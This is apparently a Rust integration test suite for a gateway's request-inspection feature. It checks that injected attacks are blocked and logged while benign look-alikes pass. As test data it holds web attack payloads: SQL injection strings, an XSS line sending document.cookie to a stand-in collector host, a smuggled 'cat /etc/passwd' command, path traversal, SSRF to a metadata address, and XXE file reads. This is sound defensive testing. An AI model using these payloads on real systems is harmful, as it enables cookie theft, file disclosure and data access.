//! Request inspection in the gateway: attacks in every place a request carries data
//! are refused with a request id, logged, and never reach the upstream; benign
//! look-alikes pass untouched; per-parameter exclusions and detect-only routes work.

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::util::{Db, Env};

const PASSWORD: &str = "correct horse battery staple";

#[tokio::test]
async fn attacks_are_blocked_and_lookalikes_pass() {
    let env = Env::with_extra(
        Db::Sqlite,
        "[inspect]\nexclusions = [{ parameter = \"plan\", detectors = [\"xss\"] }]\n\n\
         [[route]]\nname = \"lab\"\npath = \"/lab/{*rest}\"\nupstream = \"demo\"\nmethods = [\"GET\"]\n\
         [route.inspect]\nmode = \"detect-only\"\n[[route.allow]]\nanyone = true\n",
    );
    env.add_user("root", PASSWORD, &["--role", "admin"]);
    let server = env.start_server();
    let c = crate::login::client(&env);
    let cookie = crate::login::login_cookie(&c, &server, "root", PASSWORD).await;
    let base = server.base();
    let record = |c: reqwest::Client, cookie: String, base: String| async move {
        c.get(format!("{base}/api/customers/1"))
            .header("cookie", format!("__Host-centinela={cookie}"))
            .send()
            .await
            .expect("get")
            .json::<Value>()
            .await
            .expect("json")
    };
    let before = record(c.clone(), cookie.clone(), base.clone()).await;

    let get = |q: &str| {
        c.get(format!("{base}/api/customers/1?{q}"))
            .header("cookie", format!("__Host-centinela={cookie}"))
    };
    let put = |body: Value| {
        c.put(format!("{base}/api/customers/1"))
            .header("cookie", format!("__Host-centinela={cookie}"))
            .json(&body)
    };
    let attacks = vec![
        ("sqli in query", get("q=1%27%20OR%20%271%27%3D%271%27--%20")),
        ("union in query", get("id=1%20UNION%20SELECT%20password%20FROM%20users")),
        // Longer than an excerpt (40 characters): the cookie grab is past the cut.
        ("xss in json", put(json!({"name": "<script>fetch('//collector.example/c?'+document.cookie)</script>"}))),
        ("event handler in json", put(json!({"email": "x\" onmouseover=\"alert(1)"}))),
        ("cmdi in query", get("host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd")),
        ("traversal in query", get("file=..%2F..%2F..%2Fetc%2Fpasswd")),
        ("ssrf to metadata", get("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")),
        ("json.net type", put(json!({"name": {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}}))),
        ("java serialized in cookie", c.get(format!("{base}/api/customers/1"))
            .header("cookie", format!("__Host-centinela={cookie}; prefs=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")) ),
        ("sqli in a custom header", get("a=1").header("x-customer-filter", "1' or 1=1 -- ")),
        ("xxe", c.put(format!("{base}/api/customers/1"))
            .header("cookie", format!("__Host-centinela={cookie}"))
            .header("content-type", "application/xml")
            .body("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
        ("json that is not json", c.put(format!("{base}/api/customers/1"))
            .header("cookie", format!("__Host-centinela={cookie}"))
            .header("content-type", "application/json")
            .body("{\"name\": \"a\", \"name\": \"<script>\"}")),
    ];
    let mut ids = Vec::new();
    for (what, req) in attacks {
        let r = req.send().await.expect("request");
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{what}");
        let id = r.headers()["x-request-id"].to_str().expect("id").to_owned();
        let body: Value = r.json().await.expect("json");
        assert_eq!(body["error"], "blocked", "{what}");
        assert_eq!(body["request_id"], id.as_str());
        // Nothing of the rule or the payload is echoed.
        let text = body.to_string();
        assert!(
            !text.contains("sqli") && !text.contains("script"),
            "{what}: {text}"
        );
        ids.push((what, id));
    }
    // The upstream never saw any of them: the record is unchanged.
    assert_eq!(
        record(c.clone(), cookie.clone(), base.clone()).await,
        before
    );
    let log = server.log_text();
    for (what, id) in &ids {
        assert!(
            log.contains(id.as_str()),
            "{what}: request id {id} not logged"
        );
    }
    assert!(log.contains("Request blocked by inspection"));
    assert!(
        !log.contains("document.cookie"),
        "the log must hold excerpts, not payloads in full"
    );
    // Each block is an audit event naming the route, the parameter, the detector and
    // a short excerpt.
    let mut events = Vec::new();
    for _ in 0..100 {
        events = env
            .ok(&["audit-log", "export", "--kind", "inspection-blocked"], "")
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .collect();
        if events.len() >= ids.len() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(events.len(), ids.len(), "one event per block: {events:?}");
    let union = events
        .iter()
        .find(|e| e["centinela"]["details"]["parameters"][0] == "id")
        .expect("the UNION attack's event");
    let d = &union["centinela"]["details"];
    assert_eq!(d["route"], "customer", "{d}");
    assert_eq!(d["mode"], "block");
    let f = &d["findings"][0];
    assert_eq!(f["detector"], "sqli", "{f}");
    assert_eq!(f["parameter"], "id", "{f}");
    assert!(f["reason"].as_str().is_some_and(|r| !r.is_empty()), "{f}");
    let excerpt = f["excerpt"].as_str().expect("excerpt");
    assert!(excerpt.contains("UNION"), "{excerpt}");
    assert!(excerpt.chars().count() <= 41, "{excerpt}");

    // Benign look-alikes pass untouched.
    for (what, body) in [
        ("an apostrophe", json!({"name": "Siobhán O'Brien-Núñez"})),
        (
            "prose with sql words",
            json!({"name": "Select the plan or the cheapest one, and update it"}),
        ),
        (
            "an email with a plus",
            json!({"email": "ana+pedidos@example.com"}),
        ),
        (
            "html where excluded",
            json!({"plan": "<b>gold</b> & <i>priority</i>"}),
        ),
    ] {
        let r = put(body.clone()).send().await.expect("put");
        assert_eq!(r.status(), StatusCode::OK, "{what}");
        let got: Value = r.json().await.expect("json");
        for (k, v) in body.as_object().expect("object") {
            assert_eq!(&got[k], v, "{what}: the upstream got something else");
        }
    }
    for (what, q) in [
        ("a search with or", "q=black%20or%20white%20shoes"),
        ("a path-like value", "sort=price%2Fdesc"),
        ("an accented name", "name=Jos%C3%A9%20Mar%C3%ADa"),
    ] {
        let r = get(q).send().await.expect("get");
        assert_eq!(r.status(), StatusCode::OK, "{what}");
    }
    // The exclusion covers one parameter and one detector only.
    let r = put(json!({"name": "<b>gold</b><img src=x onerror=alert(1)>"}))
        .send()
        .await
        .expect("put");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    // Detect-only: forwarded (the demo answers 404 for /lab) and logged.
    let r = c
        .get(format!("{base}/lab/x?q=1%27%20OR%20%271%27%3D%271"))
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert!(server.log_text().contains("would be blocked (detect-only)"));
}

#[test]
fn config_check_reports_inspection_mistakes() {
    let env = Env::with_extra(
        Db::Sqlite,
        "[inspect]\nthreshold = 0\nweights = { sqli = 50 }\n",
    );
    let out = env.run(&["config", "check"], "");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("inspect") && err.contains("threshold"),
        "{err}"
    );
}

#[test]
fn inspect_request_reads_a_raw_request() {
    let env = Env::with_extra(
        Db::Sqlite,
        "[inspect]\nexclusions = [{ parameter = \"bio\", detectors = [\"xss\"] }]\n",
    );
    let attack = "GET /search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20 HTTP/1.1\n\
                  Host: shop.example\n\n";
    let out = env.run(&["inspect", "request"], attack);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_slice(&out.stdout).expect("json report");
    assert_eq!(report["verdict"], "block");
    assert_eq!(report["findings"][0]["detector"], "sqli");
    assert_eq!(report["findings"][0]["name"], "q");

    let benign =
        "POST /profile HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n\r\n\
                  {\"name\": \"O'Brien\", \"bio\": \"<b>hello</b>\"}";
    let out = env.run(&["inspect", "request"], benign);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let report: Value = serde_json::from_slice(&out.stdout).expect("json report");
    assert_eq!(report["verdict"], "pass");

    let out = env.run(&["inspect", "request"], "not http at all\n\n");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn inspect_eval_scores_a_gotestwaf_corpus() {
    let env = Env::new(Db::Sqlite);
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/corpus");
    let out = env.run(
        &[
            "inspect",
            "eval",
            corpus.to_str().expect("utf-8"),
            "--format",
            "json",
        ],
        "",
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let cat = |name: &str| {
        v["categories"]
            .as_array()
            .expect("categories")
            .iter()
            .find(|c| c["name"] == name)
            .unwrap_or_else(|| panic!("no {name} in {v}"))
            .clone()
    };
    // 2 payloads x 3 encoders x 3 placeholders built (GraphQL is not).
    let sql = cat("SQL injection");
    assert_eq!(sql["attack_total"], 18, "{v}");
    assert_eq!(sql["attack_blocked"], 18, "{v}");
    let xss = cat("XSS");
    assert_eq!(xss["attack_total"], 6, "{v}");
    assert_eq!(xss["attack_blocked"], 6, "{v}");
    let benign = cat("benign");
    assert_eq!(benign["benign_total"], 9, "{v}");
    assert_eq!(benign["benign_passed"], 9, "{v}");
    assert_eq!(v["total"]["attack_total"], 24, "{v}");
    assert_eq!(v["total"]["benign_total"], 9, "{v}");
    for key in [
        "attack_total",
        "attack_blocked",
        "benign_total",
        "benign_passed",
    ] {
        assert!(v["total"][key].is_u64(), "{key}: {v}");
    }
    // The text table, and a clear error for a folder without cases.
    let out = env.run(&["inspect", "eval", corpus.to_str().expect("utf-8")], "");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("SQL injection") && text.contains("total"),
        "{text}"
    );
    let out = env.run(
        &["inspect", "eval", env.path().to_str().expect("utf-8")],
        "",
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no .yml test cases"));
}

/// The example's public routes: search and feedback open to anyone, every body kind
/// the feedback form accepts inspected, attacks refused in each.
#[tokio::test]
async fn public_search_and_feedback_of_the_example() {
    let env = Env::new(Db::Sqlite);
    let server = env.start_server();
    let c = crate::login::client(&env);
    let base = server.base();
    let search = c
        .get(format!("{base}/api/public/search?q=gar"))
        .send()
        .await
        .expect("search");
    assert_eq!(search.status(), StatusCode::OK);
    let v: Value = search.json().await.expect("json");
    assert_eq!(v["q"], "gar");
    let refused = c
        .get(format!(
            "{base}/api/public/search?q=%27%20UNION%20SELECT%20password%20FROM%20users--"
        ))
        .send()
        .await
        .expect("attack");
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    // In the path: inspected (403); with an encoded slash, refused as an ambiguous
    // path before that (400).
    let in_path = c
        .get(format!(
            "{base}/api/public/search/%3Csvg%20onload%3Dalert(1)%3E"
        ))
        .send()
        .await
        .expect("path attack");
    assert_eq!(in_path.status(), StatusCode::FORBIDDEN);
    let encoded_slash = c
        .get(format!(
            "{base}/api/public/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E"
        ))
        .send()
        .await
        .expect("path attack");
    assert_eq!(encoded_slash.status(), StatusCode::BAD_REQUEST);
    // Cookies are inspected, except the gateway's own: they are stripped before the
    // upstream and a hostile session id only meets the session lookup.
    let payload = "1' OR '1'='1' -- ";
    for (cookie, want) in [
        (format!("theme={payload}"), StatusCode::FORBIDDEN),
        (format!("__Host-centinela={payload}"), StatusCode::OK),
        (format!("__Host-centinela-csrf={payload}"), StatusCode::OK),
    ] {
        let r = c
            .get(format!("{base}/api/public/search?q=gar"))
            .header("cookie", &cookie)
            .send()
            .await
            .expect("search");
        assert_eq!(r.status(), want, "{cookie}");
    }

    let boundary = "cnboundary42";
    let multipart = |text: &str| {
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n{text}\r\n--{boundary}--\r\n"
        )
    };
    let post = |ct: String, body: String| {
        c.post(format!("{base}/api/public/feedback"))
            .header("content-type", ct)
            .body(body)
            .send()
    };
    type Encode<'a> = Box<dyn Fn(&str) -> String + 'a>;
    let kinds: Vec<(String, Encode<'_>)> = vec![
        (
            "application/json".into(),
            Box::new(|t: &str| json!({"text": t}).to_string()),
        ),
        (
            "application/x-www-form-urlencoded".into(),
            Box::new(|t: &str| {
                format!(
                    "text={}",
                    t.replace(' ', "+").replace('<', "%3C").replace('>', "%3E")
                )
            }),
        ),
        (
            format!("multipart/form-data; boundary={boundary}"),
            Box::new(multipart),
        ),
        (
            "application/xml".into(),
            Box::new(|t: &str| {
                format!(
                    "<feedback><text>{}</text></feedback>",
                    t.replace('<', "&lt;").replace('>', "&gt;")
                )
            }),
        ),
    ];
    for (ct, body) in &kinds {
        let ok = post(ct.clone(), body("Great shop, I would select it again"))
            .await
            .expect("benign");
        assert_eq!(ok.status(), StatusCode::CREATED, "{ct}");
        let bad = post(ct.clone(), body("<svg onload=alert(document.cookie)>"))
            .await
            .expect("attack");
        assert_eq!(bad.status(), StatusCode::FORBIDDEN, "{ct}");
    }
    // A body type the route does not accept is refused.
    let other = post("text/plain".into(), "hello".into())
        .await
        .expect("plain");
    assert!(other.status().is_client_error(), "{}", other.status());
    let xxe = post(
        "application/xml".into(),
        "<?xml version=\"1.0\"?><!DOCTYPE f [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><f>&x;</f>"
            .into(),
    )
    .await
    .expect("xxe");
    assert_eq!(xxe.status(), StatusCode::FORBIDDEN);
}

const ORDER_SCHEMA_ROUTE: &str = "[[route]]\nname = \"orders\"\npath = \"/api/orders\"\nupstream = \"demo\"\n\
methods = [\"POST\"]\n[route.inspect]\njson_schema = '''\n{\"type\": \"object\", \"required\": [\"sku\", \"qty\"],\n\
 \"additionalProperties\": false,\n \"properties\": {\"sku\": {\"type\": \"string\", \"pattern\": \"^[A-Z0-9-]{3,20}$\"},\n\
 \"qty\": {\"type\": \"integer\", \"minimum\": 1, \"maximum\": 100}}}\n'''\n[[route.allow]]\nanyone = true\n";

/// A route's JSON Schema: matching bodies are forwarded, others get 422 naming the
/// place and the keyword (never the value), before the upstream sees them.
#[tokio::test]
async fn json_schema_refuses_bodies_of_the_wrong_shape() {
    let env = Env::with_extra(Db::Sqlite, ORDER_SCHEMA_ROUTE);
    let server = env.start_server();
    let c = crate::login::client(&env);
    let url = format!("{}/api/orders", server.base());
    // The demo upstream has no POST /api/orders: its 405 shows the body was forwarded.
    let ok = c
        .post(&url)
        .json(&json!({"sku": "AB-123", "qty": 2}))
        .send()
        .await
        .expect("valid");
    assert_eq!(ok.status(), StatusCode::METHOD_NOT_ALLOWED);
    for (body, at, keyword) in [
        (json!({"sku": "AB-123", "qty": "lots<b>"}), "/qty", "type"),
        (json!({"sku": "AB-123"}), "", "required"),
        (
            json!({"sku": "AB-123", "qty": 2, "coupon": "sleepy"}),
            "",
            "additionalProperties",
        ),
        (json!({"sku": "ab 1", "qty": 2}), "/sku", "pattern"),
        (json!({"sku": "AB-123", "qty": 1000}), "/qty", "maximum"),
    ] {
        let r = c.post(&url).json(&body).send().await.expect("post");
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        let text = r.text().await.expect("text");
        let v: Value = serde_json::from_str(&text).expect("json");
        assert_eq!(v["error"], "schema");
        assert_eq!(v["violations"][0]["at"], at, "{text}");
        assert_eq!(v["violations"][0]["keyword"], keyword, "{text}");
        assert!(!text.contains("lots") && !text.contains("sleepy"), "{text}");
    }
}

/// A schema that is not valid is refused by `config check` at the route's key.
#[test]
fn config_check_refuses_a_broken_schema() {
    let env = Env::with_extra(
        Db::Sqlite,
        &ORDER_SCHEMA_ROUTE.replace("\"type\": \"integer\"", "\"type\": \"integr\""),
    );
    let r = env.run(&["config", "check"], "");
    assert!(!r.status.success());
    let out = String::from_utf8_lossy(&r.stdout).into_owned() + &String::from_utf8_lossy(&r.stderr);
    assert!(out.contains("inspect"), "{out}");
    assert!(out.contains("not a valid JSON Schema"), "{out}");
}
